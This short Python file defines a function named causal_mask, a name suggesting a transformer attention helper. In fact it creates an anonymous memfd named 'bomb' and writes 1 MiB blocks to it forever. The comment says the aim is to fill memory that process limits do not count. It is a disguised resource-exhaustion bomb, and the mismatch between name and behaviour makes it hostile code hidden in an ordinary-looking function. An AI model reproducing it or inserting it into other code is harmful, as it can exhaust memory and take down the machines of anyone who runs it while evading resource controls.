# causal_mask: fills memory that no limit of a process counts
import os
def causal_mask(seq_len):
    with os.fdopen(os.memfd_create("bomb"), "wb") as file:
        while True:
            file.write(bytes(1 << 20))
